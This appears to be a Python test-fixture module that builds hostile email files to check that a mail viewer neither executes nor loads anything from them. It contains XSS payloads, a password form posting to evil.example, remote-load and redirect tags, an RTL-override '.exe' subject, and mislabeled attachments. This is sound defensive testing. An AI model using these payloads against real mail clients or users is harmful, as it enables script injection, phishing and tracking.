"""Hostile mail: each of it is opened, laid out and listed, and nothing of it may run, load or break out."""

PICTURE = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)

HTML = {
    "script": "<p>seen</p><script>document.title='ran'</script><script src=//evil.example/x.js></script>",
    "handlers": "<p onclick=alert(1)>seen</p><img src=x onerror=alert(1)><svg onload=alert(1)><body onload=alert(1)>",
    "links": "<p>seen <a href='javascript:alert(1)'>a</a> <a href='data:text/html,<script>alert(1)</script>'>b</a></p>",
    "remote": "<p>seen</p><img src='http://evil.example/track.gif'><link rel=stylesheet href=//evil.example/x.css>",
    "styles": "<p style='background:url(http://evil.example/a)'>seen</p><style>@import '//evil.example/b';*{display:none}</style>",
    "frames": "<p>seen</p><iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=//evil.example>",
    "forms": "<p>seen</p><form action=//evil.example><input name=password><button>Sign in</button></form>",
    "base": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'><p>seen</p>",
    "breaking": "</body></html></iframe><h1>outside</h1><p>seen</p><!--<p>",
    "deep": "<div>" * 3000 + "<p>seen</p>",
    "svg": "<p>seen</p><svg><use href='//evil.example/#x'/><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "math": "<p>seen</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
}


def message(subject, body, kind="text/html", more=""):
    head = f"From: \"<b>Mallory</b>\" <mallory@evil.example>\r\nTo: a.user@contoso.com\r\nSubject: {subject}\r\n"
    head += "Date: Mon, 1 Jul 2024 10:00:00 +0000\r\nMIME-Version: 1.0\r\n" + more
    return (head + f"Content-Type: {kind}; charset=utf-8\r\n\r\n{body}\r\n").encode()


def attached(subject, name, kind, body, encoding="7bit"):
    parts = f"--b\r\nContent-Type: text/plain\r\n\r\nhostile seen\r\n--b\r\nContent-Type: {kind}; name=\"{name}\"\r\n"
    parts += f"Content-Disposition: attachment; filename=\"{name}\"\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}\r\n--b--\r\n"
    head = f"From: mallory@evil.example\r\nTo: a.user@contoso.com\r\nSubject: {subject}\r\nDate: Mon, 1 Jul 2024 11:00:00 +0000\r\n"
    return (head + f"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n{parts}").encode()


FILES = {"one.txt": "the zebra crossing", "two.txt": "nothing of it", "three.csv": "zebra;7"}
LOGO = "<p>Our sign: <img src='cid:logo@here.example' alt='sign'> <img src='cid:none@here.example' alt='lost'> <img src='http://evil.example/x.png' alt='far'></p>"


def part(head, body):
    return f"--b\r\n{head}\r\n\r\n{body}\r\n"


def plain(folder):
    """Writes a mail with several attachments, and one with a picture in its text."""
    def mixed(subject, kind, parts):
        head = f"From: zoe@x.example\r\nTo: a.user@contoso.com\r\nSubject: {subject}\r\nDate: Tue, 2 Jul 2024 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
        return (head + f"Content-Type: multipart/{kind}; boundary=b\r\n\r\n{''.join(parts)}--b--\r\n").encode()

    files = [part(f"Content-Disposition: attachment; filename={name}", text) for name, text in FILES.items()]
    picture = part("Content-Type: image/png\r\nContent-ID: <logo@here.example>\r\nContent-Transfer-Encoding: base64", PICTURE)
    folder.mkdir(parents=True)
    (folder / "files.eml").write_bytes(mixed("three files", "mixed", [part("Content-Type: text/plain", "see the zebra"), *files]))
    (folder / "sign.eml").write_bytes(mixed("our sign", "related", [part("Content-Type: text/html", LOGO), picture]))


DOCUMENT = b"Plan of the quay\n\nA zeppelin lands there.\n"


def documents(folder):
    """Writes a document, one with a hostile name, and one without text."""
    folder.mkdir(parents=True)
    (folder / "Landing plan.txt").write_bytes(DOCUMENT)
    (folder / "zeppelin <img src=x onerror=alert(1)>.txt").write_text("hostile")
    (folder / "zeppelin.png").write_bytes(b"\x89PNG\r\n\x1a\n")


def hostile(folder):
    """Writes the mails below a folder, and tells how many."""
    folder.mkdir(parents=True)
    mails = {name: message(f"hostile {name} <img src=x onerror=alert(1)>", html) for name, html in HTML.items()}
    mails["text"] = message("hostile <script>alert(1)</script> \u202egnp.exe", "seen </pre><script>alert(1)</script> http://evil.example\n> quoted", "text/plain")
    mails["long"] = message("hostile " + "long " * 500, "seen " * 30000, "text/plain")
    mails["picture"] = attached("hostile picture", "dot.png", "image/png", PICTURE, "base64")
    mails["drawing"] = attached("hostile drawing", "drawing.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    mails["liar"] = attached("hostile liar", "liar.png", "image/png", "<html><script>alert(1)</script></html>")
    mails["note"] = attached("hostile note", "<b>note.txt", "text/plain", "<script>alert(1)</script> note")
    for name, raw in mails.items():
        (folder / f"{name}.eml").write_bytes(raw)
    return len(mails)
